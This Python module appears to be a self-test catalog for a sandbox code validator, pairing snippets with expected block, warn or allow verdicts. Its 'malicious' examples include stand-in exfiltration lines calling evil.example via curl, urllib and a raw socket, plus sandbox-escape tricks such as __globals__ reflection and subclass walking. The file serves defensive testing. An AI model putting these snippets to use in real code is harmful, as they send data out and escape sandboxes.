from __future__ import annotations

from dataclasses import dataclass

from .validator import ValidationResult, validate_code

BLOCK = "block"
WARN = "warn"
ALLOW = "allow"


@dataclass(frozen=True, slots=True)
class ScreeningExample:
    """A snippet plus the validator verdict it is expected to receive.

    Example:
        ```python
        example = ScreeningExample("Eval Attack", "eval('1')", "Direct eval()", BLOCK)
        ```
    """

    name: str
    code: str
    description: str
    expect: str


@dataclass(frozen=True, slots=True)
class ScreeningCheck:
    """Outcome of validating one catalog example.

    Example:
        ```python
        check = ScreeningCheck(example, validate_code(example.code), passed=True)
        ```
    """

    example: ScreeningExample
    validation: ValidationResult
    passed: bool


MALICIOUS_EXAMPLES: tuple[ScreeningExample, ...] = (
    ScreeningExample(
        "Eval Attack",
        "eval('print(\"Malicious code executed!\")')",
        "Direct eval() must be blocked",
        BLOCK,
    ),
    ScreeningExample(
        "Dynamic Compilation",
        "fn = compile('print(\"Code injection\")', '<x>', 'exec')",
        "compile() must be blocked",
        BLOCK,
    ),
    ScreeningExample(
        "Environment Access",
        "import os\nos.system('curl http://evil.example/steal')",
        "Imports and the os module must be blocked",
        BLOCK,
    ),
    ScreeningExample(
        "Host Stream Access",
        "print('<b>pwned</b>', file=sys.stdout)",
        "Writing to host streams must be blocked",
        BLOCK,
    ),
    ScreeningExample(
        "Network Request",
        "urllib.request.urlopen('http://evil.example/steal?data=' + 'sensitive info')",
        "Network access must be blocked",
        BLOCK,
    ),
    ScreeningExample(
        "Storage Theft",
        "open('stolen.txt', 'w').write('sensitive data')",
        "File access must be blocked",
        BLOCK,
    ),
    ScreeningExample(
        "Class Hierarchy Pollution",
        "class Evil:\n    pass\nEvil.__bases__ = (dict,)",
        "Rebinding base classes must be blocked",
        BLOCK,
    ),
    ScreeningExample(
        "Attribute Reflection",
        "secrets = getattr(print, '__globals__')",
        "Reflection helpers must be blocked",
        BLOCK,
    ),
    ScreeningExample(
        "Socket Exfiltration",
        "s = socket.socket()\ns.connect(('evil.example', 80))",
        "Raw sockets must be blocked",
        BLOCK,
    ),
    ScreeningExample(
        "Builtins Escape",
        "for cls in Exception.__base__.__subclasses__():\n    print(cls)",
        "Walking the class graph must be blocked",
        BLOCK,
    ),
    ScreeningExample(
        "Base64 Obfuscation",
        "payload = base64.b64decode('ZXZhbA==')",
        "Encoded payloads must be blocked",
        BLOCK,
    ),
    ScreeningExample(
        "Infinite Loop",
        "while True:\n    print('Infinite loop')",
        "Allowed with a warning; the execution timeout stops it",
        WARN,
    ),
)

SAFE_EXAMPLES: tuple[ScreeningExample, ...] = (
    ScreeningExample("Simple Math", "print(2 + 2)\nprint(10 * 5)", "Basic arithmetic", ALLOW),
    ScreeningExample(
        "String Operations",
        "name = 'World'\nprint('Hello, ' + name + '!')\nprint(name.upper())",
        "String concatenation and methods",
        ALLOW,
    ),
    ScreeningExample(
        "List Operations",
        "items = [1, 2, 3]\nprint([x * 2 for x in items])\nprint(sum(items))",
        "Comprehensions and aggregates",
        ALLOW,
    ),
    ScreeningExample(
        "Dict Operations",
        "obj = {'a': 1, 'b': 2}\nprint(Object.keys(obj))\nprint(Object.values(obj))",
        "Object facade helpers",
        ALLOW,
    ),
    ScreeningExample(
        "Date Operations",
        "now = datetime.now()\nprint(now.year)",
        "Date construction",
        ALLOW,
    ),
    ScreeningExample(
        "JSON Operations",
        "data = {'name': 'test', 'value': 123}\ntext = JSON.dumps(data)\nprint(text)\nprint(JSON.loads(text))",
        "JSON facade round trip",
        ALLOW,
    ),
)


def check_example(example: ScreeningExample) -> ScreeningCheck:
    """Validate one example and compare the verdict with its expectation.

    Example:
        ```python
        check = check_example(SAFE_EXAMPLES[0])
        assert check.passed
        ```
    """
    validation = validate_code(example.code)
    if example.expect == BLOCK:
        passed = not validation.valid
    elif example.expect == WARN:
        passed = validation.valid and bool(validation.warnings)
    else:
        passed = validation.valid and not validation.warnings
    return ScreeningCheck(example=example, validation=validation, passed=passed)


def run_selftest() -> list[ScreeningCheck]:
    """Validate every catalog example, malicious first.

    Example:
        ```python
        checks = run_selftest()
        assert all(check.passed for check in checks)
        ```
    """
    return [check_example(example) for example in (*MALICIOUS_EXAMPLES, *SAFE_EXAMPLES)]
